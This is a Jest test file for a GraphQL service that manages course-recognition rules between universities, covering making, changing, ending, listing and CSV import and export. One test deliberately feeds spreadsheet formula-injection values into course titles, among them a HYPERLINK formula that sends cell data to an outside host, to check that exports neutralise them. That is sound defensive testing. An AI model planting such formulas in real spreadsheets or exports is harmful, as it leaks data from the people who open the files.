import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { RuleEntity } from '../../subgraphs/recognition/rule/rule.entity.ts';
import type { Caller } from '../../subgraphs/shared/identity/caller.ts';
import { COURSE, dropRules, makeRule, receive, request } from './fixtures.ts';
import { learner, neighbour, officer, person, startRecognition, type Recognition } from './support.ts';

const ETHICS = 'dcu.ie:019a2f00-0000-7000-8000-0000000000d2';
const RULE = `... on RecognitionRule { id number title ects minGrade eqfLevel purposes validFrom validUntil evidence madeBy endedAt endedBecause
    sources { course { id } title ects eqfLevel } targets { code title ects } replaces { id } agreementId }
  ... on Refused { code message details { path message } }`;
const MAKE = `mutation ($input: MakeRecognitionRuleInput!) { made: makeRecognitionRule(input: $input) { ${RULE} } }`;
const CHANGE = `mutation ($input: ChangeRecognitionRuleInput!) { made: changeRecognitionRule(input: $input) { ${RULE} } }`;
const END = `mutation ($input: EndRecognitionRuleInput!) { made: endRecognitionRule(input: $input) { ${RULE} } }`;
const RULES = `query ($r: [_Any!]!, $inForce: Boolean!, $course: ID, $first: Int = 20, $after: String) { _entities(representations: $r) {
  ... on Institution { recognitionRules(inForce: $inForce, course: $course, first: $first, after: $after) { totalCount edges { node { id } } pageInfo { endCursor hasNextPage } } } } }`;

let at: Recognition;
beforeAll(async () => {
  at = await startRecognition();
  at.elsewhere.courses = {
    [COURSE]: { id: COURSE, title: 'Introduction to Artificial Intelligence', ects: 3, eqfLevel: 6 },
    [ETHICS]: { id: ETHICS, title: 'Ethics', ects: 2, eqfLevel: 7 },
  };
}, 30_000);
afterEach(async () => {
  at.elsewhere.down = [];
  at.now = new Date('2026-11-21T10:00:00Z');
  await dropRules(at);
  at.sent.length = 0;
});
afterAll(() => at.stop());

const write = async (document: string, input: object, who: Caller = officer) =>
  (await at.ask<{ made: any }>(who, document, { input })).made;
const PLAN = { at: 'tuni.fi', sources: [COURSE], validFrom: '2026-01-01', evidence: 'Compared by the faculty.' };
const make = (differing: object = {}, who?: Caller) => write(MAKE, { ...PLAN, ...differing }, who);
const list = async (variables: object = {}, who: Caller = learner) => {
  const r = [{ __typename: 'Institution', id: 'tuni.fi' }];
  const data = await at.ask<any>(who, RULES, { r, inForce: true, ...variables });
  return data._entities[0].recognitionRules;
};

describe('an officer makes a rule', () => {
  test('that names course versions, with the facts that make them, and the catalogue is told', async () => {
    const targets = [
      { code: 'COMP.100', title: 'Basics of AI', ects: 2 },
      { code: 'FREE', title: 'Free choice', ects: 3 },
    ];
    const made = await make({
      sources: [COURSE, ETHICS],
      targets,
      minGrade: 'C',
      eqfLevel: 6,
      validUntil: '2027-12-31',
    });
    expect(made).toMatchObject({
      number: 1,
      title:
        'Introduction to Artificial Intelligence (dcu.ie) + Ethics (dcu.ie) counts as COMP.100 Basics of AI + FREE Free choice',
      ects: 5,
      purposes: ['CREDIT_TRANSFER', 'EXEMPTION'],
      sources: [
        { course: { id: COURSE }, title: 'Introduction to Artificial Intelligence', ects: 3, eqfLevel: 6 },
        { course: { id: ETHICS }, title: 'Ethics', ects: 2, eqfLevel: 7 },
      ],
      targets,
      madeBy: officer.subject,
      endedAt: null,
      replaces: null,
    });
    expect(at.sent.map(({ to, kind, payload }) => ({ to, kind, payload }))).toEqual([
      {
        to: 'hub',
        kind: 'catalogue.recognitionChanged',
        payload: {
          recognition: {
            id: made.id,
            version: 1,
            title: made.title,
            courses: [COURSE, ETHICS],
            together: true,
            purposes: ['CREDIT_TRANSFER', 'EXEMPTION'],
            ects: 5,
            agreement: null,
            validFrom: '2026-01-01',
            validUntil: '2027-12-31',
            endedAt: null,
          },
        },
      },
    ]);
  });

  test('which decides the next request, as long as it holds and for its purposes only', async () => {
    at.elsewhere.issuer = { validity: 'VALID', final: true, pass: 'PASSED', course: COURSE };
    const { id } = await make({ purposes: ['EXEMPTION'], targets: [{ code: 'COMP.100', title: 'AI' }] });
    const ask = async (n: number, purpose: string) => {
      const who = person('tuni.fi', `rules ${n}`, ['LEARNER'], `tuni.fi:019a2f00-0000-7000-8000-0000000a000${n}`);
      return await request(at, { receivedCredentialId: await receive(at), purpose, towards: 'COMP.100' }, who);
    };
    expect(await ask(1, 'CREDIT_TRANSFER')).toMatchObject({ automatic: false });
    expect(await ask(2, 'EXEMPTION')).toMatchObject({ automatic: true, decision: { rule: { id } } });
    await write(END, { ruleId: id, reason: 'The course changed.' });
    expect(await ask(3, 'EXEMPTION')).toMatchObject({ automatic: false });
  });

  test.each<[string, Caller]>([
    ["the neighbour's officer", neighbour],
    ['a learner', learner],
    ['an assessor', person('tuni.fi', 'a', ['ASSESSOR'])],
  ])('but %s does not', async (_, who) => {
    expect(await make({}, who)).toMatchObject({ code: 'NOT_ALLOWED' });
    const { id } = await make();
    expect(await write(CHANGE, { ruleId: id, ects: 1 }, who)).toMatchObject({ code: 'NOT_ALLOWED' });
    expect(await write(END, { ruleId: id, reason: 'x' }, who)).toMatchObject({ code: 'NOT_ALLOWED' });
  });

  test.each<[string, object, string[]]>([
    ['without a source', { sources: [] }, ['input.sources']],
    [
      'with a course that is nowhere',
      { sources: ['dcu.ie:019a2f00-0000-7000-8000-00000000ffff'] },
      ['input.sources.0'],
    ],
    ['that gives more than it takes', { ects: 4 }, ['input.ects']],
    ['that ends before it begins', { validUntil: '2025-12-31' }, ['input.validUntil']],
    ['without evidence', { evidence: ' ' }, ['input.evidence']],
    ['of no level', { eqfLevel: 9 }, ['input.eqfLevel']],
    ['for admission', { purposes: ['ADMISSION'] }, ['input.purposes']],
    ['for another’s course', { targets: [{ code: 'X', title: 'X', course: COURSE }] }, ['input.targets.0.course']],
  ])('but not %s', async (_, differing, paths) => {
    const made = await make(differing);
    expect(made).toMatchObject({ code: 'INVALID' });
    expect(made.details.map(({ path }: { path: string }) => path)).toEqual(paths);
    expect(at.sent).toEqual([]);
  });

  test('with an error, not a refusal, while the course’s institution is down', async () => {
    at.elsewhere.down = ['dcu.ie'];
    await expect(make()).rejects.toMatchObject({ extensions: { code: 'INSTITUTION_UNAVAILABLE' } });
  });
});

describe('a rule that is changed', () => {
  test('is another version; the one before ends, and neither can be edited', async () => {
    const first = await make({ minGrade: 'B' });
    at.sent.length = 0;
    at.now = new Date('2026-11-21T11:00:00Z');
    const second = await write(CHANGE, { ruleId: first.id, minGrade: null, validUntil: '2027-06-30' });
    expect(second).toMatchObject({
      number: 2,
      minGrade: null,
      validUntil: '2027-06-30',
      title: first.title,
      replaces: { id: first.id },
    });
    expect(second.id).not.toBe(first.id);
    expect(
      at.sent.map(({ payload }: any) => [
        payload.recognition.id,
        payload.recognition.version,
        payload.recognition.endedAt,
      ]),
    ).toEqual([
      [first.id, 2, '2026-11-21T11:00:00.000Z'],
      [second.id, 1, null],
    ]);
    expect((await list({ course: COURSE })).edges).toEqual([{ node: { id: second.id } }]);
    expect(await write(CHANGE, { ruleId: first.id, ects: 1 })).toMatchObject({ code: 'WRONG_STATE' });
    expect(await write(END, { ruleId: first.id, reason: 'x' })).toMatchObject({ code: 'WRONG_STATE' });
    const edit = at.database.em.fork().execute('update recognition.rule set ects = 9 where id = ?', [second.id]);
    await expect(edit).rejects.toThrow('never edited');
  });

  test('by two officers at once is changed once, and the other is told', async () => {
    const { id } = await make();
    const answers = await Promise.all([1, 2].map((ects) => write(CHANGE, { ruleId: id, ects })));
    expect(answers.map(({ code }) => code ?? 'made').toSorted()).toEqual(['WRONG_STATE', 'made']);
  });
});

test('rules are listed page by page, to anybody; who made them only to the own staff', async () => {
  const made = [];
  for (const minute of [1, 2, 3]) {
    at.now = new Date(Date.UTC(2026, 10, 21, 12, minute));
    made.unshift((await make()).id);
  }
  const first = await list({ first: 2 });
  expect(first).toMatchObject({ totalCount: 3, pageInfo: { hasNextPage: true } });
  const second = await list({ first: 2, after: first.pageInfo.endCursor });
  expect([...first.edges, ...second.edges].map(({ node }: any) => node.id)).toEqual(made);
  expect(await at.entity(neighbour, 'RecognitionRule', made[0]!, 'madeBy')).toEqual({ madeBy: null });
});

test('the hub harvests every rule once, ended ones too; nobody else does', async () => {
  const hub: Caller = { subject: 'hub', institution: 'hub', roles: ['SERVICE'], learner: null, depth: 0 };
  const { id } = await make();
  await write(END, { ruleId: id, reason: 'x' });
  const seen: string[] = [];
  let after = '';
  for (;;) {
    const page: any = await at.feed(hub, 'recognitions', { after, first: '3' });
    if (page.next === null) break;
    seen.push(...page.recognitions.map((one: any) => one.id));
    after = page.next;
  }
  expect(new Set(seen).size).toBe(seen.length);
  expect(seen.at(-1)).toBe(id);
  await expect(at.feed(officer, 'recognitions')).rejects.toMatchObject({ extensions: { code: 'UNAUTHENTICATED' } });
});

describe('rules as a table', () => {
  const IMPORT = `mutation ($input: ImportRecognitionRulesInput!) { made: importRecognitionRules(input: $input) {
    ... on RuleImportReport { dryRun made changed unchanged problems { line column message } } ... on Refused { code } } }`;
  const CSV = 'query ($r: [_Any!]!) { _entities(representations: $r) { ... on Institution { recognitionRulesCsv } } }';
  const importing = (content: string, differing: object = {}, who?: Caller) =>
    write(IMPORT, { at: 'tuni.fi', content, ...differing }, who);
  const exported = async (who: Caller = officer) =>
    (await at.ask<any>(who, CSV, { r: [{ __typename: 'Institution', id: 'tuni.fi' }] }))._entities[0]
      .recognitionRulesCsv;
  const HEAD = 'sources,target_codes,target_titles,ects,min_grade,valid_from,valid_until,evidence';

  test('are written and read again; good rows are kept, bad ones told with their place', async () => {
    const table = [
      HEAD,
      `${COURSE},COMP.100,Basics of AI,3,C,2026-01-01,,Compared.`,
      `${COURSE}|${ETHICS},,,9,,2026-01-01,,Too many credits.`,
      `nothing,,,1,,2026-01-01,,No course.`,
      `${COURSE},,,1,,1.1.2026,,No day.`,
      `${ETHICS},A|B,Only one,2,,2026-01-01,,Titles.`,
      `${ETHICS},,,2,,2026-01-01,,"Good, too."`,
    ].join('\n');
    const report = { made: 2, changed: 0, unchanged: 0 };
    const problems = [
      { line: 3, column: 'ects' },
      { line: 4, column: 'sources' },
      { line: 5, column: 'valid_from' },
      { line: 6, column: 'target_titles' },
    ];
    expect(await importing(table, { dryRun: true })).toMatchObject({ dryRun: true, ...report, problems });
    expect(await list()).toMatchObject({ totalCount: 0 });
    expect(await importing(table)).toMatchObject({ dryRun: false, ...report, problems });
    expect(await importing(table)).toMatchObject({ made: 0, unchanged: 2 });
    const written = await exported();
    at.sent.length = 0;
    expect(await importing(written)).toEqual({ dryRun: false, made: 0, changed: 0, unchanged: 2, problems: [] });
    expect(await importing(written.replace(',"C",', ',"B",'))).toMatchObject({
      made: 0,
      changed: 1,
      unchanged: 1,
      problems: [],
    });
    expect(at.sent).toHaveLength(2);
    expect(await importing(written)).toMatchObject({ unchanged: 1, problems: [{ column: 'rule' }] });
  });

  test('are the same when they come back, whatever a partner calls its course', async () => {
    const forged = `dcu.ie:019a2f00-0000-7000-8000-00000000fff0`;
    const titles = [
      `Statistics;${forged};X1;Thesis;30;30;7;;CREDIT_TRANSFER;2026-01-01;;by custom;`,
      'Statistics;=HYPERLINK("http://example.org/?"&A2;"open")',
      '=1+1',
      `'=1+1, '-2\n@SUM(1)`,
      ' C, - and C++ "=quoted"',
    ];
    for (const [n, title] of titles.entries()) {
      const id = `dcu.ie:019a2f00-0000-7000-8000-00000000fc0${n}`;
      at.elsewhere.courses[id] = { id, title, ects: 3, eqfLevel: 6 };
      expect(
        await importing(`sources,valid_from,evidence\n${id},2026-01-01,"${title.replaceAll('"', '""')}"`),
      ).toMatchObject({ made: 1 });
    }
    const written = await exported();
    for (const parted of written.split(/[,;\n]/)) expect(parted).not.toMatch(/^[\s"]*[=+\-@]/);
    expect(await importing(written)).toMatchObject({ made: 0, changed: 0, unchanged: titles.length, problems: [] });
    expect(await exported()).toBe(written);
  });

  test('have one separator, that of the first line', async () => {
    const head = '\uFEFFtitle;sources;valid_from;evidence\r\n';
    const report = await importing(`${head}Ethics, in short;${ETHICS};2026-01-01;Good, too.\r\n`, { dryRun: true });
    expect(report).toMatchObject({ made: 1, problems: [] });
    expect(await importing(`sources,valid_from,evidence\n${ETHICS},2026-01-01,Good;bad`)).toMatchObject({ made: 1 });
    expect(await exported()).toContain('"Good;bad"');
  });

  test('are compared with thousands of rules while others are served', async () => {
    const { id: _, ...rule } = { ...(await makeRule(at)) };
    const thousands = Array.from({ length: 3000 }, (_, n) => ({
      ...rule,
      id: `tuni.fi:019a2f00-0000-7000-9000-${String(n).padStart(12, '0')}`,
      evidence: `${n} ${'e'.repeat(300)}`,
    }));
    await at.database.em.fork().insertMany(RuleEntity, thousands);
    const rows = Array.from({ length: 1000 }, (_, n) => `${COURSE},2026-01-01,new ${n}`);
    let [last, longest] = [performance.now(), 0];
    const beat = () => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    };
    const timer = setInterval(beat, 5);
    const report = await importing(`sources,valid_from,evidence\n${rows.join('\n')}`, { dryRun: true });
    clearInterval(timer);
    beat();
    expect(report).toMatchObject({ made: 1000, problems: [] });
    expect(longest).toBeLessThan(2000);
  });

  test('are nobody else’s to write', async () => {
    for (const who of [neighbour, learner]) {
      expect(await importing(HEAD, {}, who)).toMatchObject({ code: 'NOT_ALLOWED' });
      expect(await exported(who)).toBeNull();
    }
    expect(await importing('a,b\n1,2')).toMatchObject({
      problems: [{ line: null, message: expect.stringContaining('sources') }],
    });
  });
});
